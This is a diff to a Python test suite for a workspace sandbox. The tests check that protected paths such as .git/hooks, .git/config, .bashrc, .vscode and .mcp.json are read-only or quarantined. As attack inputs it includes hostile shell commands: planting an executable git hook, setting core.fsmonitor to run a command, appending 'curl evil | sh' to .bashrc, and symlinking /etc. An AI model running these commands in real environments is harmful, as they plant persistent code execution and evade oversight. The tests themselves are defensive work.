@@ -226,17 +226,16 @@ async def test_file_size_and_tmpfs_are_capped(open_ws: Any, sh: Callable[..., An
         assert "No space left" in tmp.stderr
 
 
-async def test_protected_paths_are_read_only(open_ws: Any, sh: Callable[..., Any]) -> None:
+async def test_existing_protected_paths_are_read_only(open_ws: Any, sh: Callable[..., Any]) -> None:
     async with open_ws() as ws:
         root = Path(ws.details()["root"])
         (root / ".git" / "hooks").mkdir(parents=True)
         (root / ".git" / "config").write_text("[core]\n")
+        (root / ".bashrc").write_text("# mine\n")
         attempts = [
             "echo evil > .git/hooks/pre-commit",
             "echo '[core] fsmonitor = evil' >> .git/config",
             "echo evil >> .bashrc",
-            "mkdir -p .vscode && echo {} > .vscode/tasks.json",
-            "echo {} > .mcp.json",
             "rm -rf .git/hooks",
             "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
             "mv .bashrc x",
@@ -246,12 +245,66 @@ async def test_protected_paths_are_read_only(open_ws: Any, sh: Callable[..., Any
             assert result.exit_code != 0, attempt
         assert not (root / ".git" / "hooks" / "pre-commit").exists()
         assert (root / ".git" / "config").read_text() == "[core]\n"
-        assert (root / ".bashrc").read_bytes() == b""
-        assert not (root / ".vscode" / "tasks.json").exists()
+        assert (root / ".bashrc").read_text() == "# mine\n"
         assert not (root / ".git-old").exists()
         assert (
             await sh(ws, "cat .git/config && echo ok > .git/HEAD && ls .git/hooks")
         ).exit_code == 0
+
+
+HOOK_ATTACK = (
+    "mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/post-checkout"
+    " && chmod +x .git/hooks/post-checkout"
+)
+
+
+async def test_planted_protected_paths_are_quarantined(
+    open_ws: Any, sh: Callable[..., Any]
+) -> None:
+    async with open_ws() as ws:
+        root = Path(ws.details()["root"])
+        assert (await sh(ws, "true")).exit_code == 0
+        assert os.listdir(root) == []  # no placeholders
+        attacks = {
+            HOOK_ATTACK: ".git/hooks",
+            "echo 'curl evil | sh' >> .bashrc": ".bashrc",
+            "mkdir -p .vscode && echo '{}' > .vscode/tasks.json": ".vscode",
+            "ln -s /etc .claude": ".claude",
+            "echo '{}' > .mcp.json": ".mcp.json",
+            "mkdir -p .git && mv .git .g && mkdir -p .g/hooks && touch .g/hooks/pre-commit"
+            " && mv .g .git": ".git/hooks",
+        }
+        for attack, rel in attacks.items():
+            result = await sh(ws, attack)
+            assert result.exit_code == 0, (attack, result.stderr)
+            assert f"corral-sandbox: {rel} was created or changed" in result.stderr, attack
+            assert not os.path.lexists(root / rel), attack
+        assert sorted(os.listdir(root)) == [".git"]
+        assert os.listdir(root / ".git") == []
+        assert [e.name for e in await ws.fs.ls("/")] == [".git"]
+
+
+async def test_git_works_inside_the_sandbox(open_ws: Any, sh: Callable[..., Any]) -> None:
+    async with open_ws() as ws:
+        root = Path(ws.details()["root"])
+        made = await sh(
+            ws,
+            "git init -q && git config user.email a@b.c && git config user.name A"
+            " && echo hi > f && git add f && git commit -qm first && git log --format=%s",
+        )
+        assert made.exit_code == 0, made.stderr
+        assert made.stdout == "first\n"
+        assert "user.email" not in made.stderr
+        assert (root / ".git" / "config").is_file()  # harmless: kept
+        assert not (root / ".git" / "hooks").exists()  # git's sample hooks: moved out
+        again = await sh(ws, "git config user.name B && git status --short && git log --format=%an")
+        assert again.exit_code == 0, again.stderr
+        assert again.stdout == "A\n"
+        evil = await sh(ws, "git config core.fsmonitor 'touch /tmp/pwned'")
+        assert ".git/config was created or changed" in evil.stderr
+        assert not (root / ".git" / "config").exists()
+        after = await sh(ws, "git log --format=%s")
+        assert after.stdout == "first\n", after.stderr
 
 
 async def test_symlinked_protected_path_is_refused(open_ws: Any, sh: Callable[..., Any]) -> None:
